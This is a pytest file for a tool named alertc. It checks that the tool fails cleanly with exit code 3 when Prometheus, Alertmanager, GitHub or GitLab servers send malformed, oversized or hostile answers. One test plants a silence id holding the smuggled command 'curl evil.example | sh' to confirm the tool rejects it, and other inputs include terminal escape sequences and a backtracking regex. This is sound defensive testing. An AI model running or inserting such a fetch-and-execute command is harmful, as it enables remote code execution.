"""`alertc verify-live` and `alertc comment` against servers that answer anything: one clear error, and exit code 3."""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
import yaml

from generator import cli
from generator.behaviour import documents
from generator.behaviour.behaviour import behave
from generator.behaviour.documents import ALERTMANAGER
from generator.commands.project import Project
from generator.commands.verify_live import Options, verify_live
from generator.diagnostics.diagnostic import EnvironmentProblem
from generator.remote import web
from generator.system.unique import unique
from tests import seeds
from tests.compiling import SMALL, compiled
from tests.hostile import HTTP_ANSWERS, JSON_BODIES, answer, cut, endless, serving, silent, ways, with_another

if TYPE_CHECKING:
    from pathlib import Path

    from tests.hostile import Behaviour

CHECK = "help: check the address: is it that of the server itself, with the path before /api where it has one?"
AGAIN = "help: run the job again, or look there"
TOKEN = "hunter2"  # it is for a server of ours
BUILD = "http://server/api/v1/status/buildinfo"


@pytest.fixture(autouse=True)
def _project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "policy").mkdir()
    (tmp_path / "policy/shop.yaml").write_text(SMALL, encoding="utf-8")
    (tmp_path / "diff.md").write_text("<!-- alertc diff -->\nx\n", encoding="utf-8")
    (tmp_path / "event").write_text(json.dumps({"pull_request": {"number": 7}}), encoding="utf-8")
    (tmp_path / "token").write_text(TOKEN, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("ALERTC_TRACEBACK", raising=False)


def failed(capfd: pytest.CaptureFixture[str], url: str, *arguments: str) -> list[str]:
    assert cli.main(arguments) == 3
    out, err = capfd.readouterr()
    assert out == ""
    assert TOKEN not in err
    return err.replace(url, "http://server").splitlines()


# ------------------------------------------------------------------------------------------- verify-live


@pytest.mark.parametrize("name", HTTP_ANSWERS)
def test_verify_live_says_what_came_in_place_of_an_answer(name: str, capfd: pytest.CaptureFixture[str]) -> None:
    behaviour, reason = HTTP_ANSWERS[name]
    with serving(behaviour) as server:
        said, _ = failed(capfd, server.url, "verify-live", "--prometheus", server.url, "--token-file", "token")
    broke = "broke off:" if "was closed" in reason else "answers with"
    assert said == f"alertc: {BUILD} {broke} {reason}: nothing was compared"


@pytest.mark.parametrize("server_kind", ["prometheus", "alertmanager"])
@pytest.mark.parametrize("name", JSON_BODIES)
def test_verify_live_says_what_is_no_answer_of_such_a_server(
    name: str, server_kind: str, capfd: pytest.CaptureFixture[str]
) -> None:
    with serving(answer(JSON_BODIES[name])) as server:
        said, help = failed(capfd, server.url, "verify-live", f"--{server_kind}", server.url)
    assert said.isprintable()
    assert ": it is" in said or " is missing" in said or " what is not JSON: " in said
    assert said.endswith(": nothing was compared")
    assert help == CHECK


def test_verify_live_follows_no_redirect_to_what_is_no_address(capfd: pytest.CaptureFixture[str]) -> None:
    with serving(answer(b"", "302 Found", {"Location": "http://[::1"})) as server:
        assert failed(capfd, server.url, "verify-live", "--prometheus", server.url) == [
            f"alertc: {BUILD} leads to what is no address: http://[::1: nothing was compared",
            "help: name the server itself",
        ]


def honest() -> dict[str, Any]:
    """Return what servers answer that run what the small policy says, by what is asked."""
    done = compiled(SMALL)
    rules = [
        {
            "name": rule.name,
            "type": "recording" if rule.records else "alerting",
            "query": rule.expr,
            "duration": rule.hold.total_seconds(),
            "keepFiringFor": rule.keep_firing.total_seconds(),
            "labels": dict(rule.labels),
            "annotations": dict(rule.annotations),
            "lastError": "",
            "health": "ok",
        }
        for rule in behave(documents.read(done.artifacts), done.artifacts).rules
    ]
    text = next(artifact.text for artifact in done.artifacts if artifact.path == ALERTMANAGER)
    matcher = {"name": "severity", "value": "P.", "isRegex": True, "isEqual": True}
    silence = {
        "id": "a-b",
        "status": {"state": "active"},
        "matchers": [matcher],
        "createdBy": "ana",
        "comment": "quiet",
        "endsAt": "2026-03-03T10:00:00.000Z",
    }
    data = {
        "status/buildinfo": {"version": "3.0.0"},
        "status/flags": {"rules.alert.resend-delay": "1m", "alertmanager.notification-queue-capacity": "99"},
        "status/runtimeinfo": {"storageRetention": "30d"},
        "status/config": {"yaml": CONFIG},
        "rules": {"groups": [{"name": "shop", "interval": 15, "rules": rules}]},
        "alertmanagers": {"activeAlertmanagers": [{"url": "http://127.0.0.1:9/api/v2/alerts"}]},
        "targets": {
            "activeTargets": [{"labels": {"job": "shop"}, "scrapeInterval": "15s", "scrapeTimeout": "10s"}],
        },
        "query": {"result": [{"metric": {"__name__": "up", "job": "shop"}}]},
    }
    return {
        **{f"/api/v1/{path}": {"status": "success", "data": one} for path, one in data.items()},
        "/api/v2/status": {
            "versionInfo": {"version": "0.28.1"},
            "config": {"original": text},
            "cluster": {"peers": [{}, {}]},
        },
        "/api/v2/silences": [silence],
        "/api/v2/alerts": [{"labels": {"alertname": "NodeDown"}, "receivers": [{"name": "page-web-P1"}]}],
    }


CONFIG = """\
global:
  external_labels: {replica: a}
  rule_query_offset: 1m
rule_files: [x.yaml]
alerting:
  alert_relabel_configs:
  - {source_labels: [severity], regex: (P.), target_label: severity, replacement: $1}
  alertmanagers:
  - {timeout: 10s}
"""

WRONG: tuple[Any, ...] = (None, True, -1, 1e29, 10**25, "", "x", "9" * 30, [], [1], {}, {"id": 1})
CONFIGS = (
    "[]",
    "x",
    "{}",
    "global: 7",
    "global: {external_labels: 7, rule_query_offset: [1]}",
    "alerting: 7",
    "alerting: {alertmanagers: 7}",
    "alerting: {alertmanagers: [7], alert_relabel_configs: [7]}",
    "alerting: {alertmanagers: {a: b}, alert_relabel_configs: {a: b}}",
    "alerting: {alert_relabel_configs: [{source_labels: 7, regex: [1], action: {a: b}}]}",
    "alerting: {alert_relabel_configs: [{source_labels: [severity], action: hashmod, target_label: x}]}",
    f"alerting: {{alert_relabel_configs: [{{source_labels: [severity], modulus: {'9' * 5000}}}]}}",
    "alerting: {alert_relabel_configs: [{source_labels: [service], regex: '(([a-z]+)*x)|.*', replacement: $1}]}",
    "rule_files: {a: b}",
    f"global: {{rule_query_offset: {'9' * 400}y}}",
    "route: 7",
    "route: {receiver: 7, routes: {a: b}}\nreceivers: 7",
    "route: {receiver: a, group_wait: 999999999999y}\nreceivers: [{name: a}]",
    "route: {receiver: a}\nreceivers: [{name: a, webhook_configs: 7}]\ntemplates: 7\ninhibit_rules: 7",
)


def found(monkeypatch: pytest.MonkeyPatch, project: Path, answers: dict[str, Any]) -> list[str]:
    """Return what is found where servers answer so."""

    def get(_: web.Client, url: str, _headers: Any, _size: int | None = None) -> web.Answer:
        return web.Answer(status=200, headers={}, body=json.dumps(answers[urlsplit(url).path]).encode())

    monkeypatch.setattr(web.Client, "get", get)
    url = ("http://127.0.0.1:1",)
    asked = Options(prometheus=url, alertmanagers=url, headers={}, limit=1)
    outcome = verify_live(Project(policy=project / "policy/shop.yaml", out=project / "out", templates=None), asked)
    return [f"{finding.code}: {finding.message}" for finding in outcome.diagnostics]


def compared(monkeypatch: pytest.MonkeyPatch, project: Path, answers: dict[str, Any]) -> str:
    """Return what is said of servers that answer so; empty where they are compared."""
    try:
        found(monkeypatch, project, answers)
    except EnvironmentProblem as unready:
        return unready.message
    return ""


@pytest.mark.drawn
def test_an_answer_of_a_server_that_is_wrong_in_any_one_place_is_an_error_or_harmless(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = honest()
    assert compared(monkeypatch, tmp_path, answers) == ""
    places = [(asked, way) for asked, data in answers.items() for way in ways(data)]

    def kind(place: tuple[str, tuple[Any, ...]]) -> tuple[object, ...]:
        return (place[0], *("*" if isinstance(part, int) else part for part in place[1]))

    tried = zip(unique(places, kind), itertools.cycle(WRONG), strict=False)
    refused = 0
    for (asked, way), wrong in seeds.some(tried, every := 6):
        said = compared(monkeypatch, tmp_path, {**answers, asked: with_another(answers[asked], way, wrong)})
        assert not said or said.endswith("nothing was compared"), (asked, way, wrong)
        refused += bool(said)
    assert refused > seeds.many(30 // every, 30)


@pytest.mark.parametrize("config", CONFIGS)
def test_a_configuration_of_any_form_is_judged_or_refused(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = honest()
    answers["/api/v1/status/config"]["data"]["yaml"] = config
    answers["/api/v2/status"]["config"]["original"] = config
    said = compared(monkeypatch, tmp_path, answers)
    assert not said or said.endswith("nothing was compared")


def otherwise(route: dict[str, Any], receivers: tuple[str, ...]) -> None:
    """Give the routes to these receivers, and all below them, another interval."""
    if route["receiver"] in receivers:
        route["group_interval"] = "20m"
    for below in route.get("routes", ()):
        otherwise(below, receivers)


@pytest.mark.parametrize(
    ("receivers", "receiver", "route", "interval"),
    [
        (
            ("page-web-P0",),
            "receiver page-web-P0 is loaded otherwise than the file says:",
            "route to page-web-P0 is loaded otherwise than the file says:",
            "20m, not 15s",
        ),
        (
            ("page-web-P0", "page-web-P1"),
            "receivers page-web-P0 and page-web-P1 are loaded otherwise than the file says, each:",
            "routes to page-web-P0 and page-web-P1 are loaded otherwise than the file says, each:",
            "20m",
        ),
    ],
)
def test_what_is_loaded_otherwise_is_said_once_for_all_that_differ_alike(
    receivers: tuple[str, ...],
    receiver: str,
    route: str,
    interval: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    answers = honest()
    loaded = answers["/api/v2/status"]["config"]
    config = yaml.safe_load(loaded["original"])
    otherwise(config["route"], receivers)
    for one in config["receivers"]:
        if one["name"] in receivers:
            one["pagerduty_configs"][0]["send_resolved"] = True
    loaded["original"] = yaml.safe_dump(config)
    begin, late = "LIV811: Alertmanager at http://127.0.0.1:1: the", "P0 MoneyLost can take 24m35s to be acknowledged"
    assert [said for said in found(monkeypatch, tmp_path, answers) if said.startswith("LIV811")] == [
        f"{begin} {route} group_interval is {interval}: {late}; the SLA is 5m",
        f"{begin} {receiver} send_resolved is true",
    ]


HALT_TOKEN = "/etc/alertmanager/secrets/halt-token"


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ({}, ["http_config is not set"]),
        ({"http_config": "x"}, ["http_config is `x`"]),
        ({"http_config": {}}, ["http_config.authorization is not set"]),
        (
            {"http_config": {"authorization": {"credentials_file": "/x"}}},
            ["http_config.authorization.credentials_file is `/x`"],
        ),
        ({"http_config": {"authorization": {"type": "Bearer", "credentials_file": HALT_TOKEN}}}, []),
    ],
)
def test_a_setting_within_others_is_named_with_them(
    written: dict[str, Any], said: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = honest()
    loaded = answers["/api/v2/status"]["config"]
    config = yaml.safe_load(loaded["original"])
    halt = next(one for one in config["receivers"] if one["name"] == "halt")
    del halt["webhook_configs"][0]["http_config"]
    halt["webhook_configs"][0] |= written
    loaded["original"] = yaml.safe_dump(config)
    begin = "LIV811: Alertmanager at http://127.0.0.1:1: the receiver halt is loaded otherwise than the file says: "
    assert [one for one in found(monkeypatch, tmp_path, answers) if one.startswith("LIV811")] == [
        f"{begin}{one}" for one in said
    ]


def test_the_id_of_a_silence_is_no_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It stands in the command that ends the silence, which somebody copies."""
    answers = honest()
    answers["/api/v2/silences"][0]["id"] = "x; curl evil.example | sh"
    assert compared(monkeypatch, tmp_path, answers) == (
        "http://127.0.0.1:1/api/v2/silences answers with what no Alertmanager says: `0/id` is not an id: "
        "nothing was compared"
    )


def test_a_silence_of_several_sets_of_matchers_hides_all_and_is_said(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """As `api/v2/compat.go` answers since 0.32: no list at all, for the sake of one silence."""
    several = "silence 'a-b' has multiple matcher sets which is not supported by this API version"
    policy = tmp_path / "policy.yaml"
    policy.write_text(SMALL, encoding="utf-8")

    table = {
        "/api/v2/status": answer(honest()["/api/v2/status"]),
        "/api/v2/alerts": answer([]),
        "/api/v2/silences": answer(several, "500 Internal Server Error"),
    }
    with serving(table) as server:
        monkeypatch.chdir(tmp_path)
        assert cli.main(["verify-live", str(policy), "--alertmanager", server.url]) == 0
    shown = "".join(capfd.readouterr())
    said = "it shows no silences: silence a-b has several sets of matchers, each of which silences"
    assert f"warning[LIV817]: Alertmanager at {server.url}: {said}\n" in shown


# ------------------------------------------------------------------------------------------- comment


@pytest.fixture(params=["github", "gitlab"])
def forge(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    github = request.param == "github"
    for name, value in {
        "GITHUB_ACTIONS": "true" if github else "",
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_REPOSITORY": "o/r",
        "GITHUB_EVENT_PATH": "event",
        "GITLAB_CI": "true",
        "ALERTC_GITLAB_TOKEN": TOKEN,
        "CI_PROJECT_ID": "12",
        "CI_MERGE_REQUEST_IID": "7",
    }.items():
        monkeypatch.setenv(name, value)
    return str(request.param)


def commented(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, behaviour: Any, *arguments: str
) -> list[str]:
    with serving(behaviour) as server:
        for name in ("GITHUB_API_URL", "CI_API_V4_URL"):
            monkeypatch.setenv(name, server.url)
        return failed(capfd, server.url, "comment", "diff.md", *arguments)


@pytest.mark.usefixtures("forge")
@pytest.mark.parametrize("name", HTTP_ANSWERS)
def test_comment_says_what_came_in_place_of_an_answer(
    name: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    behaviour, reason = HTTP_ANSWERS[name]
    verb = "cannot be asked:" if "was closed" in reason else "answers with"
    assert commented(capfd, monkeypatch, behaviour) == [f"alertc: GET http://server/user {verb} {reason}", AGAIN]


@pytest.mark.usefixtures("forge")
@pytest.mark.parametrize("name", JSON_BODIES)
def test_comment_says_what_is_no_answer_of_a_forge(
    name: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    said, help = commented(capfd, monkeypatch, answer(JSON_BODIES[name]))
    assert said.isprintable()
    assert said.startswith("alertc: GET http://server/user answers with what ")
    assert help == AGAIN


NAME = {"/user": answer({"login": "me", "username": "me"})}
LISTS = {"github": "/repos/o/r/issues/7/comments", "gitlab": "/projects/12/merge_requests/7/notes"}


@pytest.mark.parametrize(
    ("comments", "wrong"),
    [
        (answer(None), "answers with what no forge says: it is null, not a list"),
        (answer([7]), "answers with what no forge says: `0` is a number, not an object"),
        (answer([{"body": "x"}]), "answers with what no forge says: `0/id` is missing"),
        (answer([{"id": "1/../2"}]), "answers with what no forge says: `0/id` is a text, not a number"),
        (answer([{"id": 1, "body": 7}]), "answers with what no forge says: `0/body` is a number, not a text"),
        (answer([{"id": 1, "user": "me"}]), "answers with what no forge says: `0/user` is a text, not an object"),
        (answer([{"id": 1}] * 100), "answers with the same page again and again"),
        (answer(b"", "302 Found", {"Location": "http://127.0.0.1:1/"}), "answers with 302 Found"),
        (answer(b"", "777 \x1b[2J"), "answers with 777"),
        (cut([], 1), "cannot be asked: the connection was closed in the middle of the answer"),
    ],
)
def test_comment_says_what_is_no_list_of_comments(
    forge: str, comments: Behaviour, wrong: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    said, _ = commented(capfd, monkeypatch, {**NAME, "GET": comments})
    assert said == f"alertc: GET http://server{LISTS[forge]} {wrong}"


@pytest.mark.parametrize(
    ("posted", "wrong"),
    [
        (answer(b"<html>"), "answers with what is not JSON: <html>; whether it was done is not known"),
        (answer([]), "answers with what no forge says: it is a list, not an object; whether it was done is not known"),
        (answer(b"", "422 Unprocessable Entity"), "answers with 422 Unprocessable Entity"),
        (silent, "cannot be asked: no whole answer came within 0.2s; whether it was done is not known"),
    ],
)
def test_comment_says_whether_it_was_done(
    forge: str, posted: Behaviour, wrong: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = ("--timeout", "0.2") if posted is silent else ()
    behaviour = {"POST": posted, **NAME, "GET": answer([])}
    if posted is silent:
        behaviour["GET"] = answer([])
    said, _ = commented(capfd, monkeypatch, behaviour, *limit)
    assert said.replace(" Content", " Entity") == f"alertc: POST http://server{LISTS[forge]} {wrong}"


def test_comment_prints_no_address_that_is_none(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, forge: str
) -> None:
    if forge == "gitlab":
        pytest.skip("GitLab's address is made here")
    said, _ = commented(capfd, monkeypatch, {"POST": answer({"html_url": "\x1b[2J"}), **NAME, "GET": answer([])})
    assert said.endswith("`html_url` is not the address of a page; whether it was done is not known")


def test_comment_ends_where_no_answer_does(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, forge: str
) -> None:
    assert forge in LISTS
    assert commented(capfd, monkeypatch, endless(b"HTTP/1.1 200 OK\r\n\r\n", b" " * 65536)) == [
        "alertc: GET http://server/user answers with an answer without end, or far too large",
        AGAIN,
    ]


@pytest.mark.usefixtures("forge")
@pytest.mark.parametrize("token", ["two words", "line\nfeed", "no\u2028ascii"])
def test_a_token_that_is_none_is_not_shown(
    token: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("GITHUB_TOKEN", "ALERTC_GITLAB_TOKEN"):
        monkeypatch.setenv(name, token)
    said, _ = commented(capfd, monkeypatch, answer({}))
    assert said.endswith("_TOKEN holds is no token")


@pytest.mark.parametrize(
    "event", ["[", "7", '{"pull_request": 7}', '{"pull_request": {"number": true}}', "[" * 100_000]
)
def test_an_event_of_another_form_is_no_pull_request(
    event: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_PATH", "event")
    (tmp_path / "event").write_text(event, encoding="utf-8")
    said, _ = commented(capfd, monkeypatch, answer({}))
    assert said == "alertc: this job runs for no pull request"
